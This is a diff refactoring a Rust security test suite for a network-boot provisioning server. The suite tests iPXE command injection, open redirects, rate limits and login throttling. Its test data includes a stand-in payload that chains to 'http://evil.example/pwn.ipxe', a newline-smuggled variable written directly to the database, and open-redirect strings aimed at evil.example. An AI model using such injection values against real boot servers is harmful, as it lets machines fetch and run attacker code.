@@ -3,16 +3,15 @@
 //! limits. What needs several client sources or a machine's own leased address is in
 //! tests/boot_guard.rs (network namespaces).
 
-#[path = "api/harness.rs"]
-mod harness;
 #[path = "support/mod.rs"]
 mod support;
 
 use std::time::Duration;
 
 use bootforge::web::query_encode;
-use harness::{Server, ADMIN_PASSWORD, ADMIN_USER};
 use serde_json::json;
+use support::http::{api_server, ADMIN_PASSWORD, ADMIN_USER};
+use support::Server;
 
 const EVIL: &str = "chain http://evil.example/pwn.ipxe";
 
@@ -56,7 +55,7 @@ fn assert_no_injected_line(script: &str) {
 
 #[test]
 fn stored_values_cannot_inject_ipxe_commands() {
-    let s = Server::start();
+    let s = api_server().start();
     let mac = "52:54:00:5e:c0:01";
     // On input: refused, naming the field.
     ready_machine(&s, mac, "console=ttyS0");
@@ -92,7 +91,7 @@ fn stored_values_cannot_inject_ipxe_commands() {
 
     // Rows written behind the API's back (an old version, a hand edit) are caught too.
     ready_machine(&s, mac, "console=ttyS0 disk={{ variables.disk }}");
-    let db = s.data_dir.path().join("bootforge.db");
+    let db = s.data_dir().join("bootforge.db");
     let sql = format!(
         "UPDATE machines SET variables = '{{\"disk\": \"/dev/sda\\n{EVIL}\\n#\"}}' WHERE mac = '{mac}';"
     );
@@ -118,7 +117,7 @@ fn stored_values_cannot_inject_ipxe_commands() {
 
 #[test]
 fn login_next_never_leaves_the_site() {
-    let s = Server::start();
+    let s = api_server().start();
     for next in [
         "/%09/evil.example/phish",
         "//evil.example",
@@ -180,10 +179,12 @@ fn discovered_count(s: &Server) -> u64 {
 
 #[test]
 fn booting_clients_cannot_grow_the_inventory_without_bound() {
-    let s = Server::start_with_env(&[
-        ("BOOTFORGE_BOOT__MAX_DISCOVERED", "40"),
-        ("BOOTFORGE_BOOT__DISCOVERY_PER_SOURCE_PER_MINUTE", "60"),
-    ]);
+    let s = api_server()
+        .envs(&[
+            ("BOOTFORGE_BOOT__MAX_DISCOVERED", "40"),
+            ("BOOTFORGE_BOOT__DISCOVERY_PER_SOURCE_PER_MINUTE", "60"),
+        ])
+        .start();
     // 100 made-up MACs from one source within a minute.
     for i in 0..100u32 {
         let mac = format!("02:00:00:00:{:02x}:{:02x}", i >> 8, i & 0xff);
@@ -229,7 +230,7 @@ fn booting_clients_cannot_grow_the_inventory_without_bound() {
 
 #[test]
 fn concurrent_wrong_logins_never_overshoot_the_limit() {
-    let s = std::sync::Arc::new(Server::start());
+    let s = std::sync::Arc::new(api_server().start());
     let statuses: Vec<u16> = (0..8)
         .map(|_| {
             let s = s.clone();
@@ -246,7 +247,7 @@ fn concurrent_wrong_logins_never_overshoot_the_limit() {
 
 #[test]
 fn read_only_users_can_log_out() {
-    let s = Server::start();
+    let s = api_server().start();
     assert!(s
         .add_user_cli("viewer", "viewer-password-1", false)
         .status
@@ -289,7 +290,7 @@ fn read_only_users_can_log_out() {
 
 #[test]
 fn oversized_bodies_get_413_and_api_errors_are_json() {
-    let s = Server::start();
+    let s = api_server().start();
     // 3 MB: over the 2 MB JSON limit.
     let huge = json!({"mac": "52:54:00:00:00:01", "variables": {"blob": "x".repeat(3 << 20)}});
     let r = s.admin("POST", "/api/v1/machines", Some(huge));
@@ -309,7 +310,7 @@ fn oversized_bodies_get_413_and_api_errors_are_json() {
     assert_eq!(r.status, 422, "{}", r.text());
     assert_eq!(r.json()["field"], "variables");
     // axum's own rejections speak JSON too.
-    let token = format!("Bearer {}", harness::BOOTSTRAP_TOKEN);
+    let token = format!("Bearer {}", support::http::BOOTSTRAP_TOKEN);
     let r = s.request(
         "POST",
         "/api/v1/machines",
